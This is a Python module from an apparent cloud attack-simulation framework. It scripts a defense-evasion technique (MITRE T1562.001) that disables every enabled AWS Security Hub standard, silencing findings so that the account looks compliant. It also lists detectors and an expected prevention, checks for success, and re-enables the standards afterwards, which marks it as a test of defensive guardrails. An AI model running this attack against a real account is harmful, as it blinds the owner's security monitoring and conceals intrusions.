"""Disable Security Hub's standards in the account: no checks, hence no findings, which looks like compliance.

Disabling Security Hub as a whole is refused to members of an organization; its standards are not.
"""

from bastide.attack.stage import Stage
from bastide.attack.technique import NotPlayable, Prevented, Scene, Technique

TECHNIQUE = Technique(
    title="Security Hub's standards are disabled",
    mitre=("T1562.001",),
    tactic="defense-evasion",
    detectors=("GuardDuty DefenseEvasion:IAMUser/AnomalousBehavior", "AWS Config securityhub-enabled"),
    expected=Prevented("securityhub-protect"),
    source="AWS Security Hub API Reference, BatchDisableStandards",
)


def prepare(stage: Stage) -> Scene:
    """The standards that are enabled."""
    found = stage.owner().client("securityhub").get_enabled_standards()["StandardsSubscriptions"]
    if not found:
        raise NotPlayable("no standard of Security Hub is enabled in the victim's account")
    arns = [one["StandardsSubscriptionArn"] for one in found]
    return {"subscriptions": arns, "standards": [one["StandardsArn"] for one in found]}


def attack(stage: Stage, scene: Scene) -> None:
    """Disable them all."""
    hub = stage.attacker().client("securityhub")
    hub.batch_disable_standards(StandardsSubscriptionArns=scene["subscriptions"])


def succeeded(stage: Stage, scene: Scene) -> bool:
    """None of them is enabled."""
    found = stage.owner().client("securityhub").get_enabled_standards()["StandardsSubscriptions"]
    return not any(one["StandardsStatus"] == "READY" for one in found)


def clean_up(stage: Stage, scene: Scene) -> None:
    """Enable them again."""
    if succeeded(stage, scene):
        wanted = [{"StandardsArn": arn} for arn in scene["standards"]]
        stage.owner().client("securityhub").batch_enable_standards(StandardsSubscriptionRequests=wanted)
